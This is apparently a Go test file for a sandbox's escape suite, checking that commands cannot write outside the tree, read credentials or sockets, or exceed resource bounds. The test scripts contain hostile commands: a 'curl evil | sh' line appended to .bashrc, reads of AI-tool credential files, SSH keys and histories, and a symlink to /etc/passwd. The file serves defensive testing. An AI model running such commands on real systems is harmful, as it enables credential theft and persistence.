package sandbox

import (
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/anvil-dev/anvil/internal/testfs"
)

// The escape suite: code under test trying to leave the shadow tree. Each
// case runs a command that attempts the escape, then looks from outside.
// TestUnprivileged runs the suite again as nobody.

// outsideTmp makes a directory outside /tmp (whose inside the command
// does not share), as a home or a state directory is.
func outsideTmp(t *testing.T) string {
	t.Helper()
	dir, err := os.MkdirTemp("/var/tmp", "anvil-escape-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	return dir
}

func TestEscapeWritesOutsideTheTree(t *testing.T) {
	dir := testfs.Tree(t, tree)
	home := outsideTmp(t)
	testfs.Write(t, home, map[string]string{".bashrc": "# the user's\n"})
	marker := filepath.Join(os.TempDir(), "anvil-escape-"+strconv.Itoa(os.Getpid()))
	t.Cleanup(func() { os.Remove(marker) })
	script := `echo 'curl evil | sh' >> "$HOME/.bashrc"; echo x > "$HOME/new"; mkdir "$HOME/.ssh"
echo x > ` + marker + `
echo x > /var/tmp/anvil-escape-dropped; echo x > /etc/anvil-escape
echo x > /dev/anvil-escape; echo x > /dev/shm/anvil-escape
echo done`
	res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home}, Argv: []string{"sh", "-c", script}})
	if !strings.Contains(string(res.Output), "done") {
		t.Fatalf("the command did not run:\n%s", res.Output)
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "# the user's\n" {
		t.Errorf("~/.bashrc written: %q", b)
	}
	for _, p := range []string{filepath.Join(home, "new"), filepath.Join(home, ".ssh"), marker, "/var/tmp/anvil-escape-dropped", "/etc/anvil-escape", "/dev/anvil-escape", "/dev/shm/anvil-escape"} {
		if _, err := os.Lstat(p); err == nil {
			os.RemoveAll(p)
			t.Errorf("%s written from the shadow tree", p)
		}
	}
}

// The host's /tmp is not the command's: it neither sees what others keep
// there nor leaves anything.
func TestEscapeSeesNoHostTmp(t *testing.T) {
	dir := testfs.Tree(t, tree)
	name := "anvil-escape-secret-" + strconv.Itoa(os.Getpid())
	var secrets []string
	for _, d := range []string{"/tmp", os.TempDir()} {
		p := filepath.Join(d, name)
		if err := os.WriteFile(p, []byte("s"), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.Remove(p) })
		secrets = append(secrets, p)
	}
	res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: env(), Argv: []string{"sh", "-c", "cat " + strings.Join(secrets, " ") + " && echo LEAKED; ls -A /tmp " + os.TempDir()}})
	out := string(res.Output)
	if strings.Contains(out, "LEAKED") || strings.Contains(out, name+"\n") {
		t.Fatalf("the host's /tmp is visible:\n%s", out)
	}
}

// Hidden directories (Anvil's state and configuration, credentials) are
// empty inside, and cannot be written; a declared cache can.
func TestEscapeHiddenAndWritable(t *testing.T) {
	dir := testfs.Tree(t, tree)
	base := outsideTmp(t)
	state, config, cache := filepath.Join(base, "state"), filepath.Join(base, "config"), filepath.Join(base, "cache")
	testfs.Write(t, base, map[string]string{"state/journal/entry.json": "{}", "config/config.toml": "[servers.x]\ncommand = [\"sh\"]\n", "cache/old": "o", "netrc": "machine x password p"})
	script := `ls -A ` + state + ` ` + config + `; cat ` + base + `/netrc; echo pwned > ` + config + `/config.toml; echo pwned > ` + state + `/x
echo fresh > ` + cache + `/new; cat ` + cache + `/old; echo; echo done`
	res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: env(), Argv: []string{"sh", "-c", script},
		Hidden: []string{state, config, filepath.Join(base, "netrc")}, Writable: []string{cache}})
	out := string(res.Output)
	if strings.Contains(out, "entry.json") || strings.Contains(out, "journal") || strings.Contains(out, "config.toml\n") || strings.Contains(out, "password") {
		t.Errorf("a hidden path is visible:\n%s", out)
	}
	if !strings.Contains(out, "o\ndone") {
		t.Errorf("the writable cache is not readable inside:\n%s", out)
	}
	if b, _ := os.ReadFile(filepath.Join(config, "config.toml")); strings.Contains(string(b), "pwned") {
		t.Error("the configuration was written")
	}
	if _, err := os.Stat(filepath.Join(state, "x")); err == nil {
		t.Error("the state directory was written")
	}
	if b, _ := os.ReadFile(filepath.Join(cache, "new")); string(b) != "fresh\n" {
		t.Errorf("the declared cache was not writable: %q", b)
	}
}

// The user's runtime directory, where the daemon's socket is, cannot be
// reached.
func TestEscapeCannotReachTheDaemonSocket(t *testing.T) {
	dir := testfs.Tree(t, tree)
	runtime := outsideTmp(t)
	t.Setenv("XDG_RUNTIME_DIR", runtime)
	sock := filepath.Join(runtime, "anvil", "daemon.sock")
	if err := os.MkdirAll(filepath.Dir(sock), 0o700); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	accepted := make(chan struct{}, 1)
	go func() {
		if c, err := ln.Accept(); err == nil {
			accepted <- struct{}{}
			c.Close()
		}
	}()
	res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: append(env(), "SANDBOX_TEST_CONNECT="+sock),
		Argv: []string{inTree(t, dir), "-test.run=^TestConnectHelper$", "-test.v"}})
	select {
	case <-accepted:
		t.Fatalf("the command reached the daemon's socket:\n%s", res.Output)
	case <-time.After(100 * time.Millisecond):
	}
	if !strings.Contains(string(res.Output), "refused:") {
		t.Fatalf("the helper did not run:\n%s", res.Output)
	}
}

// TestConnectHelper runs inside a shadow tree: it dials each socket named
// by SANDBOX_TEST_CONNECT (comma-separated).
func TestConnectHelper(t *testing.T) {
	socks := os.Getenv("SANDBOX_TEST_CONNECT")
	if socks == "" {
		t.Skip("run only inside the shadow tree")
	}
	for _, sock := range strings.Split(socks, ",") {
		c, err := net.Dial("unix", sock)
		if err == nil {
			c.Close()
			t.Errorf("connected to %s", sock)
			continue
		}
		t.Logf("refused: %v", err)
	}
}

// /proc shows the command's own processes only: no host process, no host
// command line.
func TestEscapeSeesNoHostProcess(t *testing.T) {
	dir := testfs.Tree(t, tree)
	me := strconv.Itoa(os.Getpid())
	script := `n=0; for p in /proc/[0-9]*; do n=$((n+1)); done; echo "processes=$n"
cat /proc/` + me + `/cmdline 2>/dev/null && echo SAW-HOST-"PROCESS"
cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' ' '; echo`
	res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: env(), Argv: []string{"sh", "-c", script}})
	out := string(res.Output)
	if strings.Contains(out, "SAW-HOST-PROCESS") || strings.Contains(out, "-test.") {
		t.Fatalf("a host process is visible:\n%s", out)
	}
	var n int
	for _, l := range strings.Split(out, "\n") {
		if v, ok := strings.CutPrefix(l, "processes="); ok {
			n, _ = strconv.Atoi(v)
		}
	}
	if n == 0 || n > 3 {
		t.Fatalf("%d processes in /proc (want the command's own, 1 to 3):\n%s", n, out)
	}
}

// A run killed with SIGKILL leaves its scratch directory behind (its
// owner is gone before any cleanup); the next run sweeps it, wherever
// TMPDIR put it (in /tmp or not, and when TMPDIR has changed since). No
// other run's command can look into it, even with its place shown.
func TestEscapeScratchOfDeadRunsIsSwept(t *testing.T) {
	if os.Getenv("SANDBOX_TEST_HOLD") != "" {
		// The victim: a run that waits until it is killed.
		dir := os.Getenv("SANDBOX_TEST_HOLD")
		_, _ = Run(context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: env(), Argv: []string{"sleep", "600"},
			Changes: []Change{{Path: "a.txt", Content: []byte("the change set")}}})
		return
	}
	t.Setenv("XDG_CACHE_HOME", t.TempDir()) // where the places are recorded
	for _, tc := range []struct {
		name           string
		outside, moved bool
	}{{"in /tmp", false, false}, {"outside /tmp", true, false}, {"TMPDIR changed since", true, true}} {
		t.Run(tc.name, func(t *testing.T) {
			tmp := t.TempDir()
			if tc.outside {
				tmp = outsideTmp(t)
			}
			next := tmp
			if tc.moved {
				next = outsideTmp(t)
			}
			testScratchSwept(t, tmp, next)
		})
	}
}

func testScratchSwept(t *testing.T, tmp, next string) {
	dir := testfs.Tree(t, tree)
	if err := os.Chmod(tmp, 0o777); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(os.Args[0], "-test.run=^TestEscapeScratchOfDeadRunsIsSwept$")
	cmd.Env = append(os.Environ(), "SANDBOX_TEST_HOLD="+dir, "TMPDIR="+tmp)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	scratch := waitFor(t, func() []string {
		m, _ := filepath.Glob(filepath.Join(tmp, scratchPrefix+"*", "changes", "0"))
		return m
	})
	scratch[0] = filepath.Dir(filepath.Dir(scratch[0]))
	// Another run, its temporary directory the same and shown to it.
	t.Setenv("TMPDIR", tmp)
	peek := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: env(), Visible: []string{tmp},
		Argv: []string{"sh", "-c", "cat " + tmp + "/" + scratchPrefix + "*/changes/* " + tmp + "/" + scratchPrefix + "*/spec.json; ls -A " + tmp}})
	if strings.Contains(string(peek.Output), "the change set") || strings.Contains(string(peek.Output), filepath.Base(scratch[0])) {
		t.Errorf("another run's scratch is visible:\n%s", peek.Output)
	}
	time.Sleep(300 * time.Millisecond) // the helper is up and mounted
	cmd.Process.Signal(syscall.SIGKILL)
	cmd.Wait()
	info, err := os.Stat(scratch[0])
	if err != nil {
		t.Fatalf("the killed run left nothing to sweep: %v", err)
	}
	if info.Mode().Perm() != 0o700 {
		t.Errorf("the scratch directory's mode is %v", info.Mode().Perm())
	}
	// A scratch directory is swept once it is a minute old (younger, its
	// owner may not hold its lock yet): this one was made a while ago.
	old := time.Now().Add(-2 * sweepAge)
	if err := os.Chtimes(scratch[0], old, old); err != nil {
		t.Fatal(err)
	}
	t.Setenv("TMPDIR", next)
	run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: env(), Argv: []string{"true"}})
	if left, _ := filepath.Glob(filepath.Join(tmp, scratchPrefix+"*")); len(left) != 0 {
		t.Fatalf("scratch left behind: %v", left)
	}
}

func waitFor(t *testing.T, f func() []string) []string {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for {
		if v := f(); len(v) > 0 {
			return v
		}
		if time.Now().After(deadline) {
			t.Fatal("timed out")
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// A runner's report comes back from the report directory; a link planted
// there is not followed.
func TestReportsComeBack(t *testing.T) {
	dir := testfs.Tree(t, tree)
	res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: env(), Reports: true,
		Argv: []string{"sh", "-c", "echo '<testsuite/>' > " + ReportDir + "/junit.xml; ln -s /etc/passwd " + ReportDir + "/link.xml"}})
	if string(res.Reports["junit.xml"]) != "<testsuite/>\n" {
		t.Fatalf("reports %v", res.Reports)
	}
	if _, ok := res.Reports["link.xml"]; ok {
		t.Fatal("a link in the report directory was followed")
	}
}

// A writable directory over or under the workspace would open the user's
// tree to the command: refused before anything runs.
func TestWritableOverTheWorkspaceIsRefused(t *testing.T) {
	dir := testfs.Tree(t, tree)
	for _, w := range []string{filepath.Dir(dir), filepath.Join(dir, "node_modules")} {
		_, err := Run(context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: env(), Argv: []string{"true"}, Writable: []string{w}})
		if err == nil || !strings.Contains(err.Error(), "overlaps the workspace") {
			t.Errorf("writable %s: err = %v", w, err)
		}
	}
}

// A change set (or a configured report path) naming a place outside the
// tree, directly or through a link in the project, is applied while the
// host is still writable: it must touch nothing outside.
func TestEscapeChangesStayInTheTree(t *testing.T) {
	dir := testfs.Tree(t, tree)
	outside := outsideTmp(t)
	testfs.Write(t, outside, map[string]string{"victim/keep": "k"})
	if err := os.Symlink(filepath.Join(outside, "victim"), filepath.Join(dir, "link")); err != nil {
		t.Fatal(err)
	}
	for _, c := range []Change{
		{Path: "../" + filepath.Base(dir) + "-gone", Delete: true},
		{Path: "link/keep", Delete: true},
		{Path: "link/planted", Content: []byte("x")},
	} {
		_, err := Run(context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: env(), Argv: []string{"true"}, Changes: []Change{c}})
		if _, serr := os.Stat(filepath.Join(outside, "victim", "keep")); serr != nil {
			t.Fatalf("change %+v (err %v) deleted a file outside the tree", c.Path, err)
		}
		if _, serr := os.Stat(filepath.Join(outside, "victim", "planted")); serr == nil {
			t.Fatalf("change %+v (err %v) wrote outside the tree", c.Path, err)
		}
		if err == nil && strings.HasPrefix(c.Path, "../") {
			t.Errorf("change %q outside the tree was accepted", c.Path)
		}
	}
}

// A hidden place that is a link (a ~/.ssh stowed from a dotfiles
// directory) is hidden where its files are too.
func TestEscapeHiddenLinkTarget(t *testing.T) {
	dir := testfs.Tree(t, tree)
	base := outsideTmp(t)
	testfs.Write(t, base, map[string]string{"dotfiles/ssh/id_ed25519": "SECRET KEY"})
	link := filepath.Join(base, ".ssh")
	if err := os.Symlink(filepath.Join(base, "dotfiles", "ssh"), link); err != nil {
		t.Fatal(err)
	}
	res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: env(), Hidden: []string{link},
		Argv: []string{"sh", "-c", "cat " + link + "/id_ed25519 " + base + "/dotfiles/ssh/id_ed25519; echo done"}})
	if strings.Contains(string(res.Output), "SECRET") {
		t.Fatalf("the hidden key was read through its link's target:\n%s", res.Output)
	}
}

// A toolchain kept where the command sees nothing of the host (a home
// under /tmp, as containers set it; a home under /var) is there when
// named visible: read-only, at its own path, a hidden path inside it
// still hidden, and nothing else of the place beside it shown.
func TestEscapeVisibleToolchains(t *testing.T) {
	dir := testfs.Tree(t, tree)
	for _, base := range []string{t.TempDir(), outsideTmp(t)} {
		testfs.Write(t, base, map[string]string{"home/sdk/bin/tool": "#!/bin/sh\necho tool ran\n", "home/sdk/cache/mod": "cached\n",
			"home/sdk/credentials.toml": "token = SECRET", "home/.bash_history": "export TOKEN=SECRET"})
		if err := os.Chmod(filepath.Join(base, "home/sdk/bin/tool"), 0o755); err != nil {
			t.Fatal(err)
		}
		sdk := filepath.Join(base, "home", "sdk")
		script := `tool; cat ` + sdk + `/cache/mod; cat ` + sdk + `/credentials.toml ` + base + `/home/.bash_history
echo x > ` + sdk + `/cache/new || echo read-only; echo done`
		res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: []string{"PATH=" + sdk + "/bin:" + os.Getenv("PATH")}, Argv: []string{"sh", "-c", script},
			Visible: []string{sdk}, Hidden: []string{filepath.Join(sdk, "credentials.toml")}})
		out := string(res.Output)
		if !strings.Contains(out, "tool ran\ncached\n") || !strings.Contains(out, "read-only\ndone") {
			t.Errorf("%s: the toolchain is not visible read-only:\n%s", base, out)
		}
		if strings.Contains(out, "SECRET") {
			t.Errorf("%s: a hidden file or one beside the toolchain is visible:\n%s", base, out)
		}
		if _, err := os.Stat(filepath.Join(sdk, "cache", "new")); err == nil {
			t.Errorf("%s: the toolchain was written", base)
		}
	}
	for _, v := range []string{"/", "/tmp", "/run", "/home", "relative"} {
		if _, err := Run(context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: env(), Argv: []string{"true"}, Visible: []string{v}}); err == nil {
			t.Errorf("visible %q accepted", v)
		}
	}
}

// The home is empty inside but for what is named visible: every store of
// credentials and history in it, named in a list or not, is out of reach.
func TestEscapeHomeIsHidden(t *testing.T) {
	dir := testfs.Tree(t, tree)
	home := outsideTmp(t)
	testfs.Write(t, home, map[string]string{
		".claude/.credentials.json": "SECRET", ".claude.json": "SECRET", ".codex/auth.json": "SECRET", ".config/git/credentials": "SECRET",
		".bash_history": "SECRET", ".zsh_history": "SECRET", ".gemini/oauth_creds.json": "SECRET", ".config/some-new-tool/token": "SECRET",
		"notes.txt": "SECRET", "go/bin/gotool": "#!/bin/sh\necho gotool ran\n",
	})
	if err := os.Chmod(filepath.Join(home, "go/bin/gotool"), 0o755); err != nil {
		t.Fatal(err)
	}
	script := `cd ~ && cat .claude/.credentials.json .claude.json .codex/auth.json .config/git/credentials .bash_history .zsh_history .gemini/oauth_creds.json .config/some-new-tool/token notes.txt
ls -A ~; gotool; echo done`
	res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: []string{"PATH=" + home + "/go/bin:" + os.Getenv("PATH"), "HOME=" + home},
		Argv: []string{"sh", "-c", script}, Visible: []string{filepath.Join(home, "go")}})
	out := string(res.Output)
	if strings.Contains(out, "SECRET") {
		t.Errorf("the home's files are visible:\n%s", out)
	}
	if !strings.Contains(out, "\ngo\ngotool ran\ndone") {
		t.Errorf("the toolchain in the home is not visible:\n%s", out)
	}
}

// No path-named Unix socket of the host is reachable: not one in a
// directory of the host the command would otherwise see (a stand-in for
// a daemon's socket in /var), in /run (docker.sock's place), in a system
// directory, or in the workspace (a dependency directory bound into a
// copy included).
func TestEscapeCannotReachHostSockets(t *testing.T) {
	for _, mech := range []string{MechanismOverlay, MechanismCopy} {
		t.Run(mech, func(t *testing.T) { testHostSockets(t, mech) })
	}
}

func testHostSockets(t *testing.T, mech string) {
	// A short path: a socket's is at most 107 bytes.
	dir, err := os.MkdirTemp("", "w")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	testfs.Write(t, dir, tree)
	name := "anvil-escape-" + strconv.Itoa(os.Getpid())
	socks := []string{filepath.Join(outsideTmp(t), "docker.sock"), filepath.Join(dir, "dev.sock"), filepath.Join(dir, "node_modules", "dev.sock")}
	for _, d := range []string{"/run", "/opt", "/etc"} {
		// A stand-in where only root may create one.
		if err := os.Mkdir(filepath.Join(d, name), 0o755); err == nil {
			t.Cleanup(func() { os.RemoveAll(filepath.Join(d, name)) })
			socks = append(socks, filepath.Join(d, name, "docker.sock"))
		}
	}
	accepted := make(chan string, len(socks))
	for _, sock := range socks {
		ln, err := net.Listen("unix", sock)
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				accepted <- sock
				c.Close()
			}
		}()
	}
	res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Mechanism: mech, Env: append(env(), "SANDBOX_TEST_CONNECT="+strings.Join(socks, ",")),
		Argv: []string{inTree(t, dir), "-test.run=^TestConnectHelper$", "-test.v"}})
	if n := strings.Count(string(res.Output), "refused:"); n != len(socks) {
		t.Errorf("%d of %d sockets refused:\n%s", n, len(socks), res.Output)
	}
	select {
	case sock := <-accepted:
		t.Fatalf("the command reached %s:\n%s", sock, res.Output)
	default:
	}
}

// Each bound holds against a command that exceeds it, and the result
// names the bound: the private /tmp and /dev/shm, a file's size, a
// process's memory, the number of processes (not enforced for root: run
// again as nobody by TestUnprivileged).
func TestEscapeBounds(t *testing.T) {
	dir := testfs.Tree(t, tree)
	for _, tc := range []struct {
		name   string
		limits Limits
		script string
		bound  string
	}{
		{"tmp", Limits{Tmp: 1 << 20}, "dd if=/dev/zero of=/tmp/big bs=64k count=64 2>&1; ls -l /tmp/big", BoundTmp},
		{"shm", Limits{Tmp: 1 << 20}, "dd if=/dev/zero of=/dev/shm/big bs=64k count=64 2>&1; ls -l /dev/shm/big", BoundTmp},
		{"file size", Limits{FileSize: 1 << 20}, "dd if=/dev/zero of=big bs=64k count=64 2>&1; ls -l big", BoundFileSize},
		// python3, not a Go helper: under RLIMIT_DATA the Go runtime at
		// times dies in its collector with SIGSEGV instead of saying it
		// is out of memory, and the bound's sign is then missing.
		{"memory", Limits{Memory: 256 << 20}, "python3 -c 'b = bytearray(1 << 30)' 2>&1 | tail -1", BoundMemory},
		{"processes", Limits{Processes: 16}, "for i in $(seq 40); do sleep 5 & done 2>&1; echo started; kill $(jobs -p) 2>/dev/null", BoundProcesses},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.bound == BoundProcesses && os.Geteuid() == 0 {
				t.Skip("RLIMIT_NPROC does not bind root; TestUnprivileged runs this as nobody")
			}
			res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: env(), Limits: tc.limits, Argv: []string{"sh", "-c", tc.script}})
			if !slices.Contains(res.Hit, tc.bound) {
				t.Fatalf("hit %v, want %s (exit %d):\n%s", res.Hit, tc.bound, res.ExitCode, res.Output)
			}
			if strings.Contains(string(res.Output), "4194304") {
				t.Fatalf("a 4 MiB file was written past the bound:\n%s", res.Output)
			}
			if tc.bound == BoundMemory && !strings.Contains(string(res.Output), "MemoryError") {
				t.Fatalf("the allocation did not fail as the bound's:\n%s", res.Output)
			}
		})
	}
	// Without a bound asked, the defaults hold.
	res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: env(), Argv: []string{"sh", "-c", "ulimit -d; ulimit -f; ulimit -c"}})
	want := fmt.Sprintf("%d\n%d\n0\n", DefaultLimits.Memory>>10, DefaultLimits.FileSize>>9)
	if string(res.Output) != want || res.Limits != DefaultLimits {
		t.Errorf("ulimit -d, -f, -c: %q, want %q; limits %+v", res.Output, want, res.Limits)
	}
	// A negative bound is none: what the user has.
	res = run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: env(), Limits: Limits{Memory: -1, FileSize: -1}, Argv: []string{"sh", "-c", "ulimit -d; ulimit -f"}})
	if host, _ := exec.Command("sh", "-c", "ulimit -d; ulimit -f").Output(); string(res.Output) != string(host) {
		t.Errorf("no bound: %q, the user's %q", res.Output, host)
	}
}

// The workspace's installed dependencies may link out of it (a package
// store, a test's cache of a compiler, a virtual environment's
// interpreter): what they lead to is seen, read-only, and nothing else of
// the home; a link to the home itself shows none of it.
func TestDependencyLinksAreSeen(t *testing.T) {
	dir := testfs.Tree(t, tree)
	home := outsideTmp(t)
	testfs.Write(t, home, map[string]string{
		"store/typescript/package.json": `{"name": "typescript"}`,
		"store/typescript/lib/tsc.js":   "THE COMPILER",
		"notes.txt":                     "SECRET",
	})
	linkInto(t, dir, home, map[string]string{"node_modules/typescript": "store/typescript", "node_modules/whole-home": "."})
	res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home},
		Argv: []string{"sh", "-c", "cat node_modules/typescript/lib/tsc.js; echo; cat node_modules/whole-home/notes.txt " + home + "/notes.txt; echo > node_modules/typescript/lib/tsc.js && echo WROTE"}})
	out := string(res.Output)
	if !strings.Contains(out, "THE COMPILER") {
		t.Errorf("a dependency linked out of the tree is not seen:\n%s", out)
	}
	if strings.Contains(out, "SECRET") || strings.Contains(out, "WROTE") {
		t.Errorf("the home is seen, or the linked dependency is writable:\n%s", out)
	}
	// node_modules itself a link, to a store of installed packages.
	linked := testfs.Tree(t, map[string]string{"a.txt": "a\n"})
	testfs.Write(t, home, map[string]string{"store/node_modules/@types/node/index.d.ts": "THE TYPES"})
	if err := os.Symlink(filepath.Join(home, "store", "node_modules"), filepath.Join(linked, "node_modules")); err != nil {
		t.Fatal(err)
	}
	res = run(t, context.Background(), Spec{Seal: hostSeal(), Root: linked, Env: []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home},
		Argv: []string{"sh", "-c", "cat node_modules/@types/node/index.d.ts; cat " + home + "/notes.txt"}})
	if out := string(res.Output); !strings.Contains(out, "THE TYPES") || strings.Contains(out, "SECRET") {
		t.Errorf("a linked node_modules: %s", out)
	}
}

// A repository chooses where its dependency links lead: a link to a
// place that is no dependency (an application's settings in the home)
// must not show that place to the commands, whatever the link's name.
func TestLinksToWhatIsNoDependencyAreNotShown(t *testing.T) {
	home := outsideTmp(t)
	testfs.Write(t, home, map[string]string{
		".config/app/token":        "SECRET-TOKEN",
		"src/other/package.json":   "{}",
		"src/other/.env":           "SECRET-ENV",
		"Documents/notes/plan.txt": "SECRET-PLAN",
		"bin/tool":                 "#!/bin/sh\necho TOOL\n",
	})
	if err := os.Chmod(filepath.Join(home, "bin/tool"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name  string
		links map[string]string // in the workspace → in the home
		read  string
	}{
		{"a package link to settings", map[string]string{"node_modules/app": ".config/app"}, "cat node_modules/app/token"},
		{"a scoped package link to documents", map[string]string{"node_modules/@x/notes": "Documents/notes"}, "cat node_modules/@x/notes/plan.txt"},
		{"node_modules itself a link to settings", map[string]string{"node_modules": ".config/app"}, "cat node_modules/token"},
		{"node_modules itself a link to a folder of projects", map[string]string{"node_modules": "src"}, "cat node_modules/other/.env"},
		{"a virtual environment a link to documents", map[string]string{".venv": "Documents/notes"}, "cat .venv/plan.txt"},
		{"a venv program's link to a file of settings", map[string]string{".venv/bin/python": ".config/app/token"}, "cat " + home + "/.config/app/token"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := testfs.Tree(t, map[string]string{"a.txt": "a\n"})
			linkInto(t, dir, home, tc.links)
			res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home},
				Argv: []string{"sh", "-c", tc.read + "; cat " + home + "/.config/app/token"}})
			if out := string(res.Output); strings.Contains(out, "SECRET") {
				t.Errorf("the command read what the link names:\n%s", out)
			}
		})
	}
	// A linked program is still shown with its installation.
	dir := testfs.Tree(t, map[string]string{"a.txt": "a\n"})
	if err := os.MkdirAll(filepath.Join(dir, "node_modules/.bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(home, "bin/tool"), filepath.Join(dir, "node_modules/.bin/tool")); err != nil {
		t.Fatal(err)
	}
	res := run(t, context.Background(), Spec{Seal: hostSeal(), Root: dir, Env: []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home}, Argv: []string{"sh", "-c", "node_modules/.bin/tool"}})
	if out := string(res.Output); !strings.Contains(out, "TOOL") {
		t.Errorf("a linked program is not shown:\n%s", out)
	}
}

// linkInto makes each link (in dir) lead to its target (in home).
func linkInto(t *testing.T, dir, home string, links map[string]string) {
	t.Helper()
	for link, target := range links {
		p := filepath.Join(dir, link)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(filepath.Join(home, target), p); err != nil {
			t.Fatal(err)
		}
	}
}
